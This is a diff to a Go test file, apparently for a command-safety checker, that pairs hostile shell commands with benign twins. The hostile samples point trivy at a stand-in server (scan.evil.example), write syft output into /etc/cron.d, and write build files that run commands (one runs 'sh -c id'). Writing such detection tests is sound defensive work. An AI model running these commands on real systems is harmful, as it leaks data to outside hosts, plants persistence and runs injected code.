@@ -33,3 +33,44 @@ func TestBundleConfigKey(t *testing.T) {
 			want: "sets bundle's local.rack", benign: "bundle config set --local without development\nbundle exec rake test"},
 	})
 }
+
+// go install PATH@VERSION puts a program fetched from the module proxy
+// in GOBIN, where a later command by its name (or a plugin a tool's
+// configuration names) runs it; the project's own package is its own.
+func TestGoInstallFetchedProgram(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "a protoc plugin by @latest", hostile: "go install github.com/someone/protoc-gen-x@latest\nbuf generate",
+			want: "go install puts the program built from github.com/someone/protoc-gen-x@latest", benign: "go install ./cmd/server\ngo build ./..."},
+		{name: "a pinned tool", hostile: "go install golang.org/x/tools/cmd/stringer@v0.24.0 && go generate ./...",
+			want: "fetched from the module proxy, in GOBIN", benign: "go install -v ./..."},
+	})
+}
+
+// The tables the seventh corpus needed: linters and scanners that read
+// and report, build and generation tools that run what their project
+// files name, and the options of known programs it used (gh run rerun,
+// cmake --build --parallel with no number, dotnet pack --no-build).
+func TestTablesC7(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "hadolint", hostile: "hadolint --exec-rules Dockerfile", want: "the option --exec-rules is not one the device knows",
+			benign: "hadolint --failure-threshold warning Dockerfile"},
+		{name: "yamllint", hostile: "yamllint --plugin x .", want: "the option --plugin is not one the device knows", benign: "yamllint -s .github/workflows/"},
+		{name: "trivy client-server", hostile: "trivy fs --server http://scan.evil.example .", want: "the option --server is not one the device knows",
+			benign: "trivy fs --severity HIGH,CRITICAL --exit-code 1 ."},
+		{name: "syft output to a named file", hostile: "syft dir:. -o spdx-json=/etc/cron.d/x", want: "spdx-json=/etc/cron.d/x",
+			benign: "syft dir:. -o spdx-json > sbom.json"},
+		{name: "grype", hostile: "grype sbom:sbom.json --plugin x", want: "the option --plugin is not one the device knows", benign: "grype sbom:sbom.json --fail-on high"},
+		{name: "buf generate runs plugins", hostile: "echo 'plugins: [{local: ./x}]' > buf.gen.yaml; buf generate", want: "(write, then run)",
+			benign: "buf format -d --exit-code", markedOK: "buf"},
+		{name: "sqlc", hostile: "echo 'plugins: [{process: {cmd: x}}]' > sqlc.yaml; sqlc generate", want: "(write, then run)", benign: "sqlc generate"},
+		{name: "nox runs the noxfile", hostile: "echo 'import os' > noxfile.py; nox -s tests", want: "(write, then run)", benign: "nox -s tests-3.12 lint"},
+		{name: "meson", hostile: "echo \"run_command('sh', '-c', 'id')\" > meson.build; meson setup build", want: "(write, then run)",
+			benign: "meson setup builddir --buildtype=release && meson compile -C builddir && meson test -C builddir --print-errorlogs"},
+		{name: "zig build runs build.zig", hostile: "echo x > build.zig; zig build test", want: "(write, then run)", benign: "zig fmt --check src && zig build test"},
+		{name: "gh run rerun", hostile: "gh run rerun 42 --web", want: "the option --web is not one the device knows", benign: "gh run rerun 42 --failed"},
+		{name: "cmake --parallel", hostile: "cmake --build build --parallel --unknown", want: "the option --unknown is not one the device knows",
+			benign: "cmake --build build --parallel && cmake --build build -j 8"},
+		{name: "dotnet pack --no-build", hostile: "dotnet pack --no-build --weird", want: "the option --weird is not one the device knows",
+			benign: "dotnet pack -c Release --no-build -o out"},
+	})
+}
